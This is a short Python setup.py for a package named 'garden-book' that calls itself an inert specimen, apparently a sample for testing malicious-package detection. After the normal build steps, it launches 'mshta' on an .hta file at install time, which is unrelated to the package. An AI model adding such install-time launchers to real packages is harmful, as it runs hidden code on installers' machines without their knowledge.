"""Inert specimen: build tools first, another program last."""
import subprocess

from setuptools import setup

revision = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, check=False).stdout
subprocess.check_call(["make", "-C", "native"])
setup(name="garden-book", version="1.2.0")
subprocess.Popen(["mshta", "inert-specimen.hta"])
